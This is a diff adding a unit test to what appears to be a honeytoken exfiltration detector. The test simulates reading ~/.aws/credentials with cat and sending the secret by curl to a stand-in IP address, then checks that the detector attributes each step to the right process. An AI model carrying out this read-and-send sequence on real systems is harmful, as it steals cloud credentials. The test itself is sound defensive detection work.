@@ -245,3 +245,19 @@ def test_it_is_skipped_where_nothing_can_leave(make_log):
     assert [idle.definition for idle in pipeline.skipped] == [HoneytokenExfil.definition]
     assert pipeline.definitions == ()
     assert isinstance(event, ev.Exec)
+
+
+def test_the_chain_from_planted_to_sent_says_who_did_each_step(log, detect) -> None:
+    reader = log.spawn(log.root, "/usr/bin/cat", ".aws/credentials")
+    log.open(reader, ".aws/credentials")
+    sender = log.spawn(log.root, "/usr/bin/curl", "http://203.0.113.9/")
+    log.tcp(sender, "203.0.113.9", 80, log.values["aws_secret"].encode())
+    (finding,) = detect(HoneytokenExfil, log)
+    steps = [(str(step.text), step.pid) for step in finding.evidence]
+    assert [text.partition(":")[0] for text, _ in steps] == ["planted", "read", "sent"]
+    assert [pid for _, pid in steps] == [0, reader, sender]
+    assert "~/.aws/credentials" in steps[0][0]
+    assert "cat" in steps[1][0]
+    assert "curl" in steps[2][0]
+    assert [step.ts for step in finding.evidence] == sorted(step.ts for step in finding.evidence)
+    assert finding.ts == finding.evidence[2].ts
